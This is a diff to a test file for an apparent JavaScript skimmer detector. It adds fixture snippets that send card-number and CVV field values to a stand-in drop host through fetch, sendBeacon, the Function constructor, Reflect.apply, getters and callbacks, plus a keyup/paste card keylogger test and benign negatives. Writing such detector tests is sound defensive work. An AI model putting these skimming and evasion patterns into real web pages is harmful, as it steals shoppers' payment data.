@@ -35,6 +35,22 @@ FLOWS = {
     "selector in a list": f"['#cc_number', '#cc_cvv'].forEach(function (s) {{\n"
                           f"  var el = document.querySelector(s);\n"
                           f"  fetch('{DROP}', {{method: 'POST', body: el.value}}); }});",
+    "for await": f"async function* rows() {{ yield document.querySelector('#cc_number').value; }}\n"
+                 f"(async function () {{ for await (const r of rows()) "
+                 f"{{ fetch('{DROP}', {{method: 'POST', body: r}}); }} }})();",
+    "compiled function": f"var send = Function('u', 'd', \"navigator.sendBeacon(u, d)\");\n"
+                         f"send('{DROP}', document.querySelector('#cc_number').value);",
+    "compiled, called unnamed": f"function make() {{ return new Function('u', 'd', "
+                                f"\"fetch(u, {{method: 'POST', body: d}})\"); }}\n"
+                                f"make()('{DROP}', document.querySelector('#cvv').value);",
+    "Reflect.apply": f"var s = navigator.sendBeacon;\n"
+                     f"Reflect.apply(s, navigator, ['{DROP}', "
+                     f"document.querySelector('#cc_number').value]);",
+    "getter": f"var rec = Object.defineProperty({{}}, 'n', {{get: function () {{\n"
+              f"  return document.querySelector('#cc_number').value; }}}});\n"
+              f"fetch('{DROP}', {{method: 'POST', body: JSON.stringify(rec)}});",
+    "named callback": f"function take(el) {{ navigator.sendBeacon('{DROP}', el.value); }}\n"
+                      f"document.querySelectorAll('#cc_number').forEach(take);",
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
@@ -59,6 +75,11 @@ NO_FLOWS = {
                                  f"function b() {{ var e = 'x'; fetch('{DROP}?q=' + e); }}",
     "first party": "fetch('/checkout/pay', {method: 'POST', "
                    "body: document.querySelector('#cc_number').value});",
+    "condition only": "var n = document.querySelector('#cc_number').value;\n"
+                      f"fetch('{DROP}', {{method: 'POST', body: n ? 'filled' : 'empty'}});",
+    "count of fields": "var f = document.forms[0];\n"
+                       f"navigator.sendBeacon('{DROP}', "
+                       f"JSON.stringify({{fields: f.elements.length}}));",
     "processor": "fetch('https://api.stripe.com/v1/tokens', {method: 'POST', "
                  "body: 'card[number]=' + document.querySelector('#cc_number').value});",
 }
@@ -87,3 +108,14 @@ def test_multi_stage_eval_is_analysed(analyze) -> None:  # type: ignore[no-untyp
     report = analyze(code)
     assert findings_of(report, "card-data-to-untrusted-host")
     assert findings_of(report, "eval-of-decoded-code")
+
+
+def test_listener_events_from_a_list(analyze) -> None:  # type: ignore[no-untyped-def]
+    """`['keyup', 'paste'].forEach(t => addEventListener(t, …))`: the events are known, so the
+    handler's data is typed keystrokes."""
+    report = analyze("['keyup', 'paste'].forEach(function (t) {\n"
+                     "  document.addEventListener(t, function (e) {\n"
+                     "    if (/cc_number/.test(e.target.name)) "
+                     f"navigator.sendBeacon('{DROP}', e.target.value); }}); }});")
+    found = findings_of(report, "card-keylogger")
+    assert found and found[0].evidence["host"] == "metrics-drop.top", report.findings
